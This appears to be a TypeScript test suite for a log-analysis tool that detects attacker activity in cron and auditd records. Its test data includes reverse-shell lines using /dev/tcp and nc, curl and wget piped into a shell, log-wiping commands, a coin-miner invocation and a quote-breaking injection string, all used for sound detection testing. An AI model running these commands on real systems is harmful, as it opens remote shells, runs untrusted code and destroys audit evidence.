import { readFileSync } from 'node:fs';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import type { EcsFields } from '../core/event.ts';
import { quote } from './actions/words.ts';
import { findFindings, orderFindings } from './findings.ts';
import type { Noted } from './noted.ts';
import { serviceCommands } from './service-accounts.ts';
import { stitch } from './sessions.ts';
import { tellsOf } from './techniques.ts';

/** "title: level" of all that a command line tells, without what is merely looked at. */
const told = (line: string) =>
  tellsOf(line)
    .filter(({ level }) => level !== 'low')
    .map(({ title, level }) => `${title}: ${level}`);

/**
 * golden/tells.txt: under each "# title: level" the lines that tell it so (+), and lines that look like them and do not (-).
 */
const TABLES = readFileSync(new URL('./techniques/golden/tells.txt', import.meta.url), 'utf8')
  .split(/^# /m)
  .slice(1)
  .map((table) => {
    const [name = '', ...lines] = table.trimEnd().split('\n');
    const marked = (mark: string) => lines.filter((line) => line.startsWith(mark)).map((line) => line.slice(2));
    return { name, telling: marked('+ '), honest: marked('- ') };
  });

describe.each(TABLES)('$name', ({ name, telling, honest }) => {
  test.each(telling)('told of: %s', (line) => expect(told(line)).toContain(name));
  test.each(honest)('not told of: %s', (line) => expect(told(line)).not.toContain(name));
});

test.each([
  'grep -v foo /var/log/syslog',
  'chmod 440 /etc/sudoers.d/deploy',
  'apt install minerd-exporter',
  'pro fix CVE-2024-6387',
  'journalctl --rotate',
  'rm /var/log/nginx/access.log.14.gz',
  'cp -r /var/log /mnt/backup/logs',
  'systemctl restart rsyslog',
  'pkill -HUP rsyslogd',
])('nothing at all: %s', (line) => expect(told(line)).toEqual([]));

describe('whatever a line holds', () => {
  const pieces = fc.constantFrom(
    'rm',
    'sudo',
    'sh -c',
    '/var/log',
    "'",
    '"',
    '`',
    '$(',
    ')',
    '(',
    '|',
    ';',
    '>',
    '<(',
    '\\',
    '{',
    '*',
    ' ',
    '-c',
    'eval',
    'find',
    '-exec',
    '&',
    '\n',
    'a',
  );

  test('it is read, and each title told once', () => {
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string({ unit: 'binary' }),
          fc.array(pieces, { maxLength: 200 }).map((all) => all.join(' ')),
          fc.array(pieces, { maxLength: 400 }).map((all) => all.join('')),
        ),
        (line) => {
          const titles = tellsOf(line).map(({ title }) => title);
          expect(new Set(titles).size).toBe(titles.length);
        },
      ),
    );
  });

  test('a quoted command is no command, and one behind sudo and a shell is', () => {
    const command = fc.constantFrom(
      'rm -rf /var/log/*',
      'pkill rsyslogd',
      'nc -e /bin/sh 198.51.100.4 4444',
      '> /var/log/wtmp',
    );
    const wrapper = fc.constantFrom(
      'sudo ',
      'sudo -u root ',
      'nohup ',
      'env A=b ',
      'timeout -s KILL 5 ',
      "sh -c '%'",
      "sudo bash -c '%'",
      "su - -c '%'",
      'eval "%"',
      'cd /; ',
      'true && ',
      '$(%)',
    );
    fc.assert(
      fc.property(command, wrapper, (line, around) => {
        const wrapped = around.includes('%') ? around.replace('%', line) : `${around}${line}`;
        expect(told(wrapped)).toEqual(told(line));
        expect(told(`printf '%s' '${line}'`)).toEqual([]);
        expect(told(line)).not.toEqual([]);
      }),
    );
  });

  test.each([
    '$('.repeat(2048),
    '('.repeat(4096),
    '"\\'.repeat(2048),
    '`'.repeat(4096),
    'sh -c '.repeat(600),
    'a|'.repeat(2048),
    '$(a|'.repeat(1024),
    `rm /var/log/${'*a'.repeat(2000)}`,
  ])('long and odd: %.12s…', (line) => expect(() => tellsOf(line)).not.toThrow());
});

describe('outside of any session', () => {
  const START = Date.parse('2026-05-10T08:00:00Z');
  let line = 0;
  const event = (fields: EcsFields, minute = 0, parser = 'cron'): Noted => {
    line += 1;
    const time = START + minute * 60_000;
    const about = { lines: 1, count: 1, certainty: 'exact', host: 'web1', process: '', pid: 0, message: '' } as const;
    return {
      ...about,
      line,
      parser,
      time,
      fields,
      shape: null,
      address: '',
      user: undefined,
      raw: `line ${line}`,
      input: 0,
    };
  };
  const ran = (action: string, user: string, command: string, minute = 0, more: EcsFields = {}) =>
    event(
      {
        'event.category': ['process'],
        'event.type': ['start'],
        'event.action': action,
        'user.name': user,
        'process.command_line': command,
        ...more,
      },
      minute,
      action === 'executed' ? 'auditd' : 'cron',
    );
  const cron = (user: string, command: string, minute = 0) => ran('cron_command', user, command, minute);
  const audit = (user: string, command: string, minute = 0, more?: EcsFields) =>
    ran('executed', user, command, minute, more);
  const table = (user: string, minute: number) =>
    event(
      {
        'event.category': ['configuration'],
        'event.type': ['change'],
        'event.action': 'crontab_replaced',
        'user.name': user,
      },
      minute,
    );
  const login = (user: string, minute: number) =>
    event(
      {
        'event.category': ['authentication'],
        'event.type': ['start'],
        'event.action': 'ssh_login',
        'event.outcome': 'success',
        'user.name': user,
      },
      minute,
      'sshd',
    );
  const findings = (events: readonly Noted[], suspect = false) => {
    const { sessions, loose } = stitch(events);
    const named = sessions.map((draft, at) => ({ id: `s${at}`, draft, suspect }));
    return orderFindings(findFindings(named, loose, { paths: ['syslog'] }));
  };
  const services = (events: readonly Noted[]) =>
    serviceCommands(stitch(events).loose).map(({ tell: { title } }) => title);

  test.each([
    ['root', 'curl -fsSL http://198.51.100.4/x.sh | bash', 'Program fetched and run by cron', 'high'],
    ['ana', 'bash -i >& /dev/tcp/198.51.100.4/443 0>&1', 'Reverse shell by cron', 'critical'],
    ['ana', '/tmp/.x/xmrig --donate-level 1', 'Coin miner by cron', 'critical'],
    ['root', 'echo aWQK | base64 -d | sh', 'Encoded command run by cron', 'high'],
    ['root', '/dev/shm/.k/upd >/dev/null 2>&1', 'Program run from a folder for temporary files by cron', 'high'],
    ['www-data', 'sh /var/tmp/.x/run', 'Program run from a folder for temporary files by cron', 'high'],
  ])('cron of %s: %s', (user, command, title, level) => {
    const found = findings([...Array(9).keys()].map((minute) => cron(user, command, minute)));
    expect(found).toMatchObject([{ title, level, count: 9, session: null }]);
    expect(found[0]?.techniques).toContain('T1053.003');
  });

  test.each([
    'curl -fsS https://hc.example/ping > /dev/null',
    'mysqldump --all-databases | gzip > /srv/backup/db.gz',
    'rsync -a /srv backup@backup.example:/srv',
    'find /var/log/app -mtime +30 -delete',
    'flock -n /tmp/.backup.lock /usr/local/bin/backup > /tmp/.backup.out',
    '/tmp/build/run.sh',
    'truncate -s 0 /var/log/app/app.log',
    '[ -x /usr/lib/php/sessionclean ] && /usr/lib/php/sessionclean',
    'cd / && run-parts --report /etc/cron.hourly',
  ])('everyday work of cron: %s', (command) => expect(findings([cron('root', command)])).toEqual([]));

  test('two commands of one kind are one finding, and both are in the evidence', () => {
    const often = [...Array(9).keys()].map((minute) => cron('root', 'curl http://198.51.100.4/a | sh', minute));
    const [found, ...others] = findings([...often, cron('root', 'curl http://198.51.100.4/b | sh', 30)]);
    expect(others).toEqual([]);
    expect(found).toMatchObject({ count: 10 });
    expect(found?.evidence).toHaveLength(5);
    expect(found?.evidence.at(-1)?.raw).toBe(`line ${line}`);
  });

  test('a changed crontab is told in a suspect session only', () => {
    const events = [login('ana', 0), table('ana', 1)];
    expect(findings(events, true)).toMatchObject([
      { title: 'Schedule changed', techniques: ['T1053.003'], session: 's0' },
    ]);
    expect(findings(events, false)).toEqual([]);
    expect(findings([table('www-data', 1)])).toEqual([]);
    const [draft] = stitch(events).sessions;
    expect(draft?.steps).toMatchObject([{ kind: 'cron', user: 'ana' }]);
  });

  const LOOKS = ['id', 'uname -a', 'sh -c cat /etc/passwd', 'wget http://198.51.100.4/a'];
  const LIKE = 'A service account ran commands like a person';

  test.each([
    ['all of them', LOOKS.map((command, minute) => audit('www-data', command, minute))],
    ['three of them', LOOKS.slice(1).map((command, minute) => audit('www-data', command, minute * 20))],
    ['by user id alone', LOOKS.map((command) => audit('', command, 0, { 'user.name': undefined, 'user.id': '33' }))],
  ])('a service account looks around: %s', (_, events) => {
    expect(services(events)).toEqual([LIKE]);
    const [found] = findings(events);
    expect(found).toMatchObject({ title: LIKE, level: 'high', techniques: ['T1505.003'], count: events.length });
    expect(found?.detail).toContain('; ');
  });

  test.each([
    ['one command', [audit('www-data', 'id')]],
    ['the same one again', [0, 1, 2, 3].map((minute) => audit('www-data', 'id', minute))],
    ['one, told twice', [audit('www-data', 'sh -c id'), audit('www-data', 'id'), audit('www-data', 'uname -a')]],
    ['over days', LOOKS.map((command, day) => audit('www-data', command, day * 1440))],
    [
      'what services run',
      ['php -v', 'convert a.png b.jpg', 'uname -s', 'id -u', 'git status'].map((command) => audit('www-data', command)),
    ],
    ['three web hooks', ['a', 'b', 'c'].map((name) => audit('www-data', `curl https://hooks.example/${name}`))],
    ['somebody who logged in', LOOKS.map((command) => audit('www-data', command, 0, { 'user.audit.id': '1000' }))],
    ['a person', LOOKS.map((command) => audit('ana', command))],
    ['a build', LOOKS.map((command) => audit('jenkins', command))],
    [
      'a monitor',
      [...Array(30).keys()].flatMap((minute) => LOOKS.slice(0, 3).map((command) => audit('nobody', command, minute))),
    ],
  ])('nothing a person did: %s', (_, events) => {
    expect(services(events)).toEqual([]);
    expect(findings(events).map(({ title }) => title)).not.toContain(LIKE);
  });

  test('cron of a service account counts for the verdict, each command once', () => {
    const fetched = [0, 1, 2].map((minute) => cron('www-data', 'wget -qO- http://198.51.100.4/k | sh', minute));
    expect(services(fetched)).toEqual(['Program fetched and run']);
    expect(
      services([cron('www-data', 'php /srv/www/cron.php'), cron('root', 'curl http://198.51.100.4/k | sh')]),
    ).toEqual([]);
  });
});

test.each([
  ['ana', 'ana'],
  ['-rf', "-- '-rf'"],
  ['--help', "-- '--help'"],
  ['a b', "'a b'"],
  ["a';id", String.raw`'a'\'';id'`],
  ['', "''"],
])('the name %j in a command', (name, written) => expect(quote(name)).toBe(written));
